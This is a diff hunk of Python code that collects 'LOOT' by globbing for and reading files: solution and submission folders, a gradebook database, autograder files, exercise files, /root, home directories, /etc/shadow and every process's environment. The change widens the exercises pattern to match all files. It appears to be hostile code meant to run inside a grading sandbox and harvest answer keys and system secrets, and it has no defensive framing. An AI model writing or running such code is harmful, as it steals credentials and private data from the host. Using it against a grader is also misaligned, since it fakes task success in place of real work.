@@ -97,7 +97,7 @@ for pid in (os.getppid(), 1, -1):
 import glob, os
 LOOT = []
 for pattern in ("/**/solutions/**", "/**/submitted/**", "/**/gradebook.db", "/**/.autograder/*",
-                "/**/exercises/*.py", "/root/*", "/home/*/*", "/etc/shadow", "/proc/[0-9]*/environ"):
+                "/**/exercises/*", "/root/*", "/home/*/*", "/etc/shadow", "/proc/[0-9]*/environ"):
     for path in glob.iglob(pattern, recursive=pattern.count("**") < 2):
         try:
             LOOT.append((path, open(path, "rb").read(100)))
